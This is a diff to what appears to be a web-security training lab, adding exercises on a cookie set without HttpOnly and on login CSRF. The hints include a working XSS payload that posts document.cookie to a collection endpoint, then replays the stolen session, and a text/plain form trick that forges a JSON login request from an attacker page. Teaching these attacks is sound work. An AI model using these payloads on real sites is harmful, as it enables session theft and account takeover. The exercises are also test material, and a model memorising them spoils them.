@@ -286,6 +286,37 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "This terminal shows where user 1's browser went: take the code from it. " + TOKEN + EVIL
         + " -d code_verifier=$V"),
         oauth.redirect_prefix, leaked="The app's client_id: {value}", path="/token", route=VICTIM_PATH),
+    Exercise("no-httponly", "Get this run's flag from GET /admin, which answers only user 1. User 1 is logged "
+             "in, in Chromium, on a page with an XSS bug: POST JSON {\"script\": \"...\"} to /victim and their "
+             "page runs it. /collect is yours: POST anything to it, GET it back.", ("curl",), (
+        "Look at the cookie this server sets at login: " + LOGIN.replace("-s", "-si")
+        + ". Which attributes does Set-Cookie have?",
+        "Without HttpOnly, page script reads the cookie as document.cookie; with it, the browser leaves "
+        "the cookie out of every API but HTTP [^rfc6265-4.1.2.6]. Script injected by an XSS bug runs as "
+        "the page's own, so it can read the session ID and send it anywhere [^owasp-session-httponly].",
+        "Make user 1's page send you its cookies: curl -s -X POST {url}/victim -H 'Content-Type: "
+        "application/json' -d '{{\"script\": \"fetch(\\\"/collect\\\", {{method: \\\"POST\\\", body: "
+        "document.cookie}})\"}}', then read what came: curl -s {url}/collect",
+        "Send user 1's ID yourself: curl -s -H 'Cookie: sessionId=THEIR_ID' {url}/admin. HttpOnly only keeps "
+        "the ID in the browser: the same script could still use the session from inside the page, as HTTP "
+        "requests carry the cookie [^rfc6265-4.1.2.6]; what the page's script fetches is not counted here."),
+        _session_of_user_1, route=VICTIM_PATH),
+    Exercise("login-csrf", "Make user 1's browser log in to your account (eve), so that what they type next "
+             "lands where you can read it. User 1 opens a page you write: POST JSON {\"page\": \"<html>...\"} "
+             "to /victim, and their Chromium opens it at http://attacker.example/, another site.",
+             ("curl", "python3"), (
+        "See what this server's /login takes: your own login with -H 'Content-Type: text/plain' instead of "
+        "JSON: " + LOGIN.replace("-s", "-si").replace("application/json", "text/plain"),
+        "An HTML form on any site can POST to any other, with the victim's browser, and text/plain is one "
+        "of its encodings; a login form needs CSRF protection too, or the victim is logged in to the "
+        "attacker's account [^owasp-csrf].",
+        "A text/plain form sends each field as name=value and a line break [^html-text-plain]: one input "
+        "named '{{\"email\":\"eve@example.com\",\"password\":\"eve\",\"pad\":\"' with the value "
+        "'\"}}' makes the body JSON. Put it in a form with action {url}/login, method POST and enctype "
+        "text/plain, and a script that submits it, in page.html.",
+        "Send it: python3 -c 'import json; print(json.dumps({{\"page\": open(\"page.html\").read()}}))' | "
+        "curl -s -X POST {url}/victim -H 'Content-Type: application/json' -d @-"),
+        _answered, route=VICTIM_PATH),
     Exercise("fixation", "Get this run's flag from GET /admin, which answers only user 1. You can set a "
              "cookie in user 1's browser: POST JSON {\"sessionId\": \"...\"} to /victim, and user 1 logs "
              "in carrying it.", ("curl",), (
